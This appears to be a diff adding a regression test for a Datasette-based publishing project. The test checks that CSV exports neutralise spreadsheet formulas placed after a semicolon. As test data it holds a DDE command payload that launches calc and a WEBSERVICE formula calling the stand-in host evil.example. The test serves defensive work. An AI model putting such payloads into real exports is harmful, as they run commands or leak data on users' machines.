@@ -1,0 +1,49 @@
+"""Issue 24, round eighteen, helper r18a (class 5, exports; class 1, markup): what a fresh attack on the exports
+found, each pinned by a test that fails without its fix."""
+
+from __future__ import annotations
+
+import csv
+import io
+import sqlite3
+import urllib.parse
+from pathlib import Path
+from typing import Any
+
+
+def _served(db: Path, path: str) -> Any:
+    from datasette.app import Datasette
+
+    from analysis.publish.database import PLUGINS_DIR, SETTINGS
+    from tests.event_loop import run_apart
+
+    ds = Datasette([str(db)], plugins_dir=str(PLUGINS_DIR), settings=SETTINGS)
+    response = run_apart(ds.client.get(path))
+    assert response.status_code == 200, response.text[:300]
+    return response
+
+
+# --- Datasette: no formula after a semicolon in a CSV the server hands out (class 5, exports) ----------------------
+
+#: A query's cells with a formula after a semicolon. Datasette quotes a cell only for a comma, quote or line end, so
+#: the first went out unquoted, and Excel set to a semicolon list separator (most of Europe) split it there and
+#: opened "-2+3+cmd|' /C calc'!A0" as a cell of its own: a DDE command, under the project's name.
+AFTER_SEMICOLON = {"a": "Revised;-2+3+cmd|' /C calc'!A0", "b": "Figures; =WEBSERVICE(\"http://evil.example/\")",
+                   "c": "x;@SUM(1)", "d": "Down; -5% on the year", "e": "-0.5"}
+
+
+def test_a_formula_after_a_semicolon_in_a_query_csv_is_sent_as_text(tmp_path: Path) -> None:
+    from analysis.record.hygiene import AFTER_SEMICOLON_FORMULA
+
+    db = tmp_path / "cse.db"
+    sqlite3.connect(db).close()
+    select = ", ".join(f"'{v.replace(chr(39), chr(39) * 2)}' as {k}" for k, v in AFTER_SEMICOLON.items())
+    got = _served(db, "/cse.csv?" + urllib.parse.urlencode({"sql": f"select {select}", "_dl": "1"}))
+    header, row = list(csv.reader(io.StringIO(got.text)))
+    assert header == list(AFTER_SEMICOLON)
+    # Split as a semicolon-separator spreadsheet splits the line: no part starts a formula.
+    for cell in got.text.splitlines()[1].split(";")[1:]:
+        assert not cell.lstrip().startswith(("=", "+", "-", "@")) or cell.startswith(" -5%"), got.text
+    assert not any(AFTER_SEMICOLON_FORMULA.search(cell) for cell in row), row
+    # A fall written "; -5%" and a negative number are left as Datasette wrote them.
+    assert row[3:] == ["Down; -5% on the year", "-0.5"]
